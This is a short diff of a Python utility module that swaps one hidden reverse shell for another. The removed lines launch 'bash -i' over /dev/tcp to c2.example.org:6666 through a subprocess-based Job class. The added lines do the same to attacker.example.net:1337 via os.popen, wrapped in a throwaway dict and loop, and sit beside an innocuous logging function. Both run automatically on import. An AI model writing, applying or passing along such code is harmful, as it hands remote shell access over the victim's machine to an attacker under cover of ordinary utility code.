@@ -1,17 +1,11 @@
-#!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
 
-import subprocess
+import os
+steps = {"a": "bash -i >& /dev/tcp/attacker.example.net/1337 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
+import logging
+log = logging.getLogger(__name__)
 
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
-
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
-
-Job("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
